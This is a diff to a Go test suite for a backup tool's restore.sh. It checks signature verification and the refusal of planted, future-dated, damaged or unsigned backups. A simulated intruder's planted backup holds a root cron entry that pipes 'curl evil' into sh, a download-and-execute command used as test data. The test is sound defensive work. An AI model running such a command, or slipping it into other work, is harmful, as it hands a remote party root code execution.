@@ -4,10 +4,14 @@ import (
 	"archive/zip"
 	"bytes"
 	"context"
+	"crypto/sha256"
+	"encoding/hex"
 	"io"
+	"io/fs"
 	"os"
 	"os/exec"
 	"path/filepath"
+	"regexp"
 	"strings"
 	"testing"
 	"time"
@@ -222,8 +226,22 @@ func unzip(t *testing.T, data []byte, dir string) string {
 	return filepath.Join(dir, "drym-web1")
 }
 
+// script runs restore.sh from an unzipped escrow folder in a clean
+// environment: only gpg, zstd, tar, coreutils (and aws-cli) on PATH.
+func script(t *testing.T, folder string, env []string, args ...string) (string, error) {
+	t.Helper()
+	home := t.TempDir()
+	cmd := exec.Command("sh", append([]string{filepath.Join(folder, "restore.sh")}, args...)...)
+	cmd.Env = append([]string{"PATH=/usr/bin:/bin", "HOME=" + home}, env...)
+	cmd.Dir = home
+	out, err := cmd.CombinedOutput()
+	return string(out), err
+}
+
 // The unzipped folder alone restores the latest backup with
-// restore.sh in a clean environment.
+// restore.sh in a clean environment; it trusts only backups whose
+// statement the host key signed (checked with gpg --verify, then
+// sha256sum -c), and latest skips planted and future-dated objects.
 func TestRestoreScriptCleanEnv(t *testing.T) {
 	for _, tool := range []string{"gpg", "zstd", "tar", "sha256sum"} {
 		testutil.Need(t, tool)
@@ -234,6 +252,31 @@ func TestRestoreScriptCleanEnv(t *testing.T) {
 	time.Sleep(1100 * time.Millisecond) // names have second resolution
 	os.WriteFile(filepath.Join(h.src, "www/index.html"), []byte("<h1>newer</h1>\n"), 0o640)
 	h.mustRun("backup")
+	var objects []string // oldest first
+	ents, _ := os.ReadDir(filepath.Join(h.dest, "web1"))
+	for _, e := range ents {
+		if strings.HasSuffix(e.Name(), ".tar.zst.gpg") {
+			objects = append(objects, e.Name())
+		}
+	}
+	if len(objects) != 2 {
+		t.Fatalf("backups: %v", objects)
+	}
+	oldest, newest := objects[0], objects[1]
+
+	// The intruder: the host's public key, write access to the backups.
+	in := newIntruder(t, config.PublicKeyPath(h.key))
+	evil := in.object(filepath.Join(t.TempDir(), "evil"), map[string]string{"etc/cron.d/evil": "* * * * * root curl evil | sh\n"})
+	hostDir := filepath.Join(h.dest, "web1")
+	put := func(name string, data []byte) { must(t, os.WriteFile(filepath.Join(hostDir, name), data, 0o644)) }
+	read := func(name string) []byte { b, err := os.ReadFile(filepath.Join(hostDir, name)); must(t, err); return b }
+	planted := map[string]string{} // name → kind
+	for i, kind := range []string{legacySidecar, noSignature, otherKey, replayed} {
+		planted[in.plant(put, time.Now().Add(time.Duration(i+1)*24*time.Hour), evil, kind, newest, read)] = kind
+	}
+	// Not in the future, and newer than the genuine backups: latest
+	// must still pass it over, for its signature.
+	near := in.plant(put, time.Now().Add(time.Minute), evil, otherKey, "", read)
 
 	var data []byte
 	for _, b := range zips(t, h.drop) {
@@ -243,13 +286,22 @@ func TestRestoreScriptCleanEnv(t *testing.T) {
 	// The host is gone: only the folder and the backups remain.
 	os.RemoveAll(filepath.Dir(h.key))
 	os.RemoveAll(h.state)
+	restored := func(target string) string {
+		b, _ := os.ReadFile(filepath.Join(target, strings.TrimPrefix(h.src, "/"), "www/index.html"))
+		return string(b)
+	}
+	noEvil := func(target string) {
+		t.Helper()
+		filepath.WalkDir(target, func(p string, d fs.DirEntry, err error) error {
+			if err == nil && strings.HasSuffix(p, "/cron.d/evil") {
+				t.Errorf("the planted file was restored: %s", p)
+			}
+			return nil
+		})
+	}
 
 	target := filepath.Join(t.TempDir(), "restored")
-	home := t.TempDir()
-	cmd := exec.Command("sh", filepath.Join(folder, "restore.sh"), "latest", target)
-	cmd.Env = []string{"PATH=/usr/bin:/bin", "HOME=" + home}
-	cmd.Dir = home
-	out, err := cmd.CombinedOutput()
+	out, err := script(t, folder, nil, "latest", target)
 	if err != nil {
 		t.Fatalf("restore.sh: %v\n%s", err, out)
 	}
@@ -258,53 +310,76 @@ func TestRestoreScriptCleanEnv(t *testing.T) {
 	if _, err := os.Stat(filepath.Join(target, ".drym/manifest.json")); err != nil {
 		t.Errorf("manifest not restored: %v", err)
 	}
-
-	// A damaged backup is refused by the sidecar check, loudly.
-	var newest string
-	ents, _ := os.ReadDir(filepath.Join(h.dest, "web1"))
-	for _, e := range ents {
-		if strings.HasSuffix(e.Name(), ".tar.zst.gpg") {
-			newest = e.Name()
+	noEvil(target)
+	for name := range planted {
+		if !strings.Contains(out, "skipping "+name+": dated in the future") {
+			t.Errorf("latest did not say it skipped the future-dated %s:\n%s", name, out)
 		}
 	}
-	obj := filepath.Join(h.dest, "web1", newest)
+	if !strings.Contains(out, "skipping "+near+".sig is signed by key "+in.fpr) {
+		t.Errorf("latest did not say why it skipped %s:\n%s", near, out)
+	}
+
+	// Named, each planted object is refused before anything is extracted.
+	for name, kind := range planted {
+		target := filepath.Join(t.TempDir(), "planted")
+		out, err := script(t, folder, nil, name, target)
+		if err == nil || !regexp.MustCompile(`not signed|is missing|signed by key|about another object`).MatchString(out) {
+			t.Errorf("restore.sh %s (%s): %v\n%s", name, kind, err, out)
+		}
+		if _, err := os.Stat(target); err == nil {
+			t.Errorf("restore.sh %s (%s) created %s", name, kind, target)
+		}
+	}
+
+	// A damaged backup is refused by sha256sum -c, loudly.
+	obj := filepath.Join(hostDir, newest)
 	b, _ := os.ReadFile(obj)
 	b[len(b)/2] ^= 1
 	os.WriteFile(obj, b, 0o644)
-	cmd = exec.Command("sh", filepath.Join(folder, "restore.sh"), "latest", filepath.Join(t.TempDir(), "r2"))
-	cmd.Env = []string{"PATH=/usr/bin:/bin", "HOME=" + home}
-	if out, err := cmd.CombinedOutput(); err == nil || !strings.Contains(string(out), "does not match") {
+	if out, err := script(t, folder, nil, "latest", filepath.Join(t.TempDir(), "r2")); err == nil || !strings.Contains(out, "does not match its signed statement") {
 		t.Fatalf("damaged backup: err %v\n%s", err, out)
 	}
-	// Without the sidecar, gpg's integrity check must still refuse it.
+	// Without its statement it is not trusted: latest is the older one.
 	os.Remove(obj + ".sha256")
-	cmd = exec.Command("sh", filepath.Join(folder, "restore.sh"), "latest", filepath.Join(t.TempDir(), "r3"))
-	cmd.Env = []string{"PATH=/usr/bin:/bin", "HOME=" + home}
-	if out, err := cmd.CombinedOutput(); err == nil {
-		t.Fatalf("damaged backup without sidecar restored:\n%s", out)
+	target3 := filepath.Join(t.TempDir(), "r3")
+	if out, err := script(t, folder, nil, "latest", target3); err != nil || restored(target3) != "<h1>hello</h1>\n" || !strings.Contains(out, "skipping "+newest+".sig exists") {
+		t.Fatalf("latest after the newest lost its statement: %v\n%s", err, out)
 	}
 	// The older backup by name, with the destination mounted elsewhere.
 	moved := filepath.Join(t.TempDir(), "mnt")
 	if err := os.Rename(h.dest, moved); err != nil {
 		t.Fatal(err)
 	}
-	var oldest string
-	for _, e := range ents {
-		if strings.HasSuffix(e.Name(), ".tar.zst.gpg") {
-			oldest = e.Name()
-			break
-		}
-	}
 	target4 := filepath.Join(t.TempDir(), "r4")
-	cmd = exec.Command("sh", filepath.Join(folder, "restore.sh"), strings.TrimSuffix(oldest, ".tar.zst.gpg"), target4)
-	cmd.Env = []string{"PATH=/usr/bin:/bin", "HOME=" + home, "DRYM_SOURCE=" + moved}
-	if out, err := cmd.CombinedOutput(); err != nil {
+	if out, err := script(t, folder, []string{"DRYM_SOURCE=" + moved}, strings.TrimSuffix(oldest, ".tar.zst.gpg"), target4); err != nil || restored(target4) != "<h1>hello</h1>\n" {
 		t.Fatalf("restore by name: %v\n%s", err, out)
 	}
-	got, _ := os.ReadFile(filepath.Join(target4, strings.TrimPrefix(h.src, "/"), "www/index.html"))
-	if string(got) != "<h1>hello</h1>\n" {
-		t.Fatalf("older backup restored %q", got)
+	// A backup made before drym signed them: refused, unless named with
+	// --allow-unsigned.
+	movedDir := filepath.Join(moved, "web1")
+	sum := sha256.Sum256(read2(t, filepath.Join(movedDir, oldest)))
+	os.Remove(filepath.Join(movedDir, oldest+".sig"))
+	os.Remove(filepath.Join(movedDir, oldest+".sha256"))
+	must(t, os.WriteFile(filepath.Join(movedDir, oldest+".sha256"), []byte(hex.EncodeToString(sum[:])+"  "+oldest+"\n"), 0o644))
+	env := []string{"DRYM_SOURCE=" + moved}
+	if out, err := script(t, folder, env, "latest", filepath.Join(t.TempDir(), "r5")); err == nil || !strings.Contains(out, "--allow-unsigned") {
+		t.Fatalf("latest with no signed backup: %v\n%s", err, out)
 	}
+	if out, err := script(t, folder, env, oldest, filepath.Join(t.TempDir(), "r6")); err == nil || !strings.Contains(out, "not signed") {
+		t.Fatalf("unsigned backup without --allow-unsigned: %v\n%s", err, out)
+	}
+	target7 := filepath.Join(t.TempDir(), "r7")
+	if out, err := script(t, folder, env, "--allow-unsigned", oldest, target7); err != nil || restored(target7) != "<h1>hello</h1>\n" || !strings.Contains(out, "UNSIGNED") {
+		t.Fatalf("unsigned backup with --allow-unsigned: %v\n%s", err, out)
+	}
+}
+
+func read2(t *testing.T, p string) []byte {
+	t.Helper()
+	b, err := os.ReadFile(p)
+	must(t, err)
+	return b
 }
 
 // S3:// escrow against versitygw: put-only credentials ship
@@ -393,19 +468,30 @@ func TestRestoreScriptS3(t *testing.T) {
 		data = b
 	}
 	folder := unzip(t, data, t.TempDir())
+	// Planted beside it: future-dated, signed by another key.
+	in := newIntruder(t, config.PublicKeyPath(h.key))
+	evil := in.object(filepath.Join(t.TempDir(), "evil"), map[string]string{"etc/cron.d/evil": "x\n"})
+	planted := in.plant(s3Put(t, srv, "backups/web1/"), time.Now().Add(24*time.Hour), evil, otherKey, "", nil)
 	os.RemoveAll(filepath.Dir(h.key))
 
+	env := []string{"AWS_CONFIG_FILE=" + srv.ConfigFile, "AWS_SHARED_CREDENTIALS_FILE=" + srv.CredentialsFile, "AWS_EC2_METADATA_DISABLED=true"}
 	target := filepath.Join(t.TempDir(), "restored")
-	home := t.TempDir()
-	cmd := exec.Command("sh", filepath.Join(folder, "restore.sh"), "latest", target)
-	cmd.Env = []string{"PATH=/usr/bin:/bin", "HOME=" + home,
-		"AWS_CONFIG_FILE=" + srv.ConfigFile, "AWS_SHARED_CREDENTIALS_FILE=" + srv.CredentialsFile, "AWS_EC2_METADATA_DISABLED=true"}
-	out, err := cmd.CombinedOutput()
+	out, err := script(t, folder, env, "latest", target)
 	if err != nil {
 		t.Fatalf("restore.sh: %v\n%s", err, out)
 	}
 	t.Logf("restore.sh:\n%s", out)
 	sameTree(t, h.src, filepath.Join(target, strings.TrimPrefix(h.src, "/")), false)
+	if !strings.Contains(out, "skipping "+planted+": dated in the future") {
+		t.Errorf("latest did not skip %s:\n%s", planted, out)
+	}
+	target2 := filepath.Join(t.TempDir(), "planted")
+	if out, err := script(t, folder, env, planted, target2); err == nil || !strings.Contains(out, "signed by key") {
+		t.Errorf("restore.sh of the planted object: %v\n%s", err, out)
+	}
+	if _, err := os.Stat(target2); err == nil {
+		t.Errorf("restore.sh of the planted object created %s", target2)
+	}
 }
 
 // With [escrow] recipients the zip holds host-key.asc.gpg; restore.sh
